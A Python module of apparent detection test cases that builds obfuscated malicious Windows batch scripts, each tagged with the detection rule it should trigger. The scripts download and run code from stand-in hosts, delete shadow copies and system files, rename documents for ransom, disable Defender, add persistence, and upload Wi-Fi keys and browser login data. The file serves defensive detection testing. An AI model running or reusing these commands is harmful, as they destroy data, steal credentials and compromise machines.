"""Command files that act badly, disguised in the ways that are common."""

from __future__ import annotations

import base64

from tools.corpus.detections.case import Case, script
from tools.corpus.detections.collected import scripts

_FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/stage')"
_ALPHABET = "qwertyuiopasdfghjklzxcvbnm:/.-_ 0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def _encoded(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


def _lettered(line: str, name: str = "k") -> str:
    """Each letter cut out of one variable."""
    return "".join(
        f"%{name}:~{_ALPHABET.index(char)},1%" if char in _ALPHABET else char for char in line
    )


def _program() -> str:
    """The head of a program, as certutil reads it."""
    coded = base64.encodebytes(b"MZ" + bytes(300) + b"PE\0\0" + bytes(200)).decode()
    return f"-----BEGIN CERTIFICATE-----\n{coded}-----END CERTIFICATE-----"


_PIECES = {
    "vss": "vssadmin delete shadows /all /quiet",
    "boot": "bcdedit /set {default} recoveryenabled No",
}

_TEXTS: tuple[tuple[str, str, str], ...] = (
    (
        "encoded-powershell.bat",
        f"@echo off\nset p=power\nset s=shell\n%p%%s% -nop -w hidden -enc {_encoded(_FETCH)}\n",
        "runs-code-from-network",
    ),
    (
        "carets.cmd",
        "@e^cho o^ff\nc^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -split -f http://192.0.2.9/a.exe "
        '%TEMP%\\a.exe\nst^a^r^t "" %TEMP%\\a.exe\n',
        "windows-download-and-run",
    ),
    (
        "letters.bat",
        f"@echo off\nset k={_ALPHABET}\n{_lettered(_PIECES['vss'])}\n",
        "deletes-shadow-copies",
    ),
    (
        "late-letters.bat",
        '@echo off\nsetlocal EnableDelayedExpansion\nset "a=x1dmveswcripto"\n'
        "set c=\nfor %%i in (4 6 6 8) do set c=!c!!a:~%%i,1!\n"
        "set r=del\nset q=vss\nset w=admin\n"
        "!q!!w! !r!ete sha%NOTHING%dows /all\n",
        "deletes-shadow-copies",
    ),
    (
        "carries-program.bat",
        "@echo off\nset o=%TEMP%\\upd.exe\n"
        'findstr /v /b /c:"@" /c:"set" /c:"find" /c:"cert" /c:"start" /c:"exit" '
        '"%~f0" > %TEMP%\\c.txt\n'
        f"certutil -decode %TEMP%\\c.txt %o% >nul\nstart /min %o%\nexit /b\n{_program()}\n",
        "decodes-and-runs",
    ),
    (
        "echoes-vbs.bat",
        "@echo off\nset f=%TEMP%\\~t.vbs\n"
        'echo Set x = CreateObject("MSXML2.XMLHTTP") > %f%\n'
        'echo x.open "GET", "http://files.example/inv.exe", False >> %f%\n'
        'echo x.send : Set s = CreateObject("ADODB.Stream") >> %f%\n'
        'echo s.Type=1:s.Open:s.Write x.responseBody:s.SaveToFile "%TEMP%\\inv.exe",2 >> %f%\n'
        'cscript //b //nologo %f%\nstart "" %TEMP%\\inv.exe\n',
        "builds-fetching-script",
    ),
    (
        "for-set-findstr.cmd",
        "@echo off\nset final=IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/p')\n"
        "FOR /F \"tokens=4 delims=s\\\" %%a IN ('set^|findstr PSM') DO "
        "echo %final% | %%a -nop -\n",
        "runs-code-from-network",
    ),
    (
        "numbers.bat",
        "@echo off\nsetlocal enabledelayedexpansion\n"
        f'set "z={_ALPHABET}"\nset "out="\n'
        "for %%n in ("
        + " ".join(str(_ALPHABET.index(char)) for char in _PIECES["vss"])
        + ') do set "out=!out!!z:~%%n,1!"\n%out%\n!out!\n',
        "deletes-shadow-copies",
    ),
    (
        "persists.bat",
        '@echo off\ncopy /y "%~f0" "%APPDATA%\\winlog.bat" >nul\n'
        "attrib +h +s %APPDATA%\\winlog.bat\n"
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v winlog /t REG_SZ "
        '/d "%APPDATA%\\winlog.bat" /f\n',
        "registry-autostart",
    ),
    (
        "extortion.bat",
        "@echo off\nvssadmin delete shadows /all /quiet & wmic shadowcopy delete\n"
        'for /r "%USERPROFILE%\\Documents" %%f in (*.docx *.xlsx *.pdf *.txt) do (\n'
        '  ren "%%f" "%%~nxf.locked"\n)\n'
        "echo Pay or lose them. > %USERPROFILE%\\Desktop\\README.txt\n",
        "rewrites-windows-documents",
    ),
    (
        "defences-off.cmd",
        "@echo off\nset a=Defen\nset b=der\n"
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows %a%%b%" /v DisableAntiSpyware '
        "/t REG_DWORD /d 1 /f\nsc stop Win%a:n=n%d\nnetsh advfirewall set allprofiles state off\n"
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true\n",
        "disables-windows-defences",
    ),
    (
        "goto-spaghetti.bat",
        "@echo off\ngoto x3\n:x1\nset u=%u%.example/x.hta\ngoto x4\n"
        ":x3\nset m=ms\nset u=http://pay\ngoto x1\n:x4\nset m=%m%hta\n%m% %u%\n",
        "command-file-downloads",
    ),
    (
        "task.bat",
        '@echo off\nif "%COMPUTERNAME%"=="SANDBOX" exit\n'
        'schtasks /create /f /sc minute /mo 5 /tn Updater /tr "powershell -w hidden -c '
        '\\"iex(iwr http://192.0.2.5/t)\\""\n',
        "scheduled-suspect-task",
    ),
    (
        "steals.bat",
        "@echo off\nset o=%TEMP%\\r.txt\nsysteminfo > %o%\nipconfig /all >> %o%\n"
        "netsh wlan show profile name=home key=clear >> %o%\n"
        'copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" %TEMP%\\l.db\n'
        'curl -s -F "file=@%o%" http://203.0.113.8/up.php\ndel %o%\n',
        "sends-files-away",
    ),
    (
        "renamed-shell.bat",
        '@echo off\ncopy %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "%~0.exe" >nul\n'
        f'"%~0.exe" -nop -w hidden -c "{_FETCH}"\n',
        "renamed-system-program",
    ),
    (
        "quotes-commas.cmd",
        f';;,c"m"d,;,/v:on;,/c,"set x={_FETCH}&&p""ow"er"sh""ell -nop -c !x!"\n',
        "runs-code-from-network",
    ),
    (
        "piped-code.bat",
        "@echo off\ncurl -s http://192.0.2.44/cmd.txt | cmd\n",
        "code-from-network-piped",
    ),
    (
        "hybrid.bat",
        '@if (@a)==(@b) @end /*\n@echo off\ncscript //nologo //e:jscript "%~f0"\n'
        "bitsadmin /transfer j /download /priority high http://cdn.example/s.exe %TEMP%\\s.exe\n"
        "%TEMP%\\s.exe\nexit /b\n*/\nnew ActiveXObject('WScript.Shell').Run('calc');\n",
        "windows-download-and-run",
    ),
    (
        "fork-bomb.bat",
        '@echo off\n:s\nstart "" "%~f0"\ngoto s\n',
        "starts-itself-without-end",
    ),
    (
        "wiper.bat",
        "@echo off\nset d=de\nset t=/f /s /q\n%d%l %t% C:\\*.*\nrd /s /q C:\\Windows\n",
        "deletes-system",
    ),
)

CMD_BAD: tuple[Case, ...] = (
    *(script(name, "batch", text, rule) for name, text, rule in _TEXTS),
    *scripts("cmd_bad"),
)
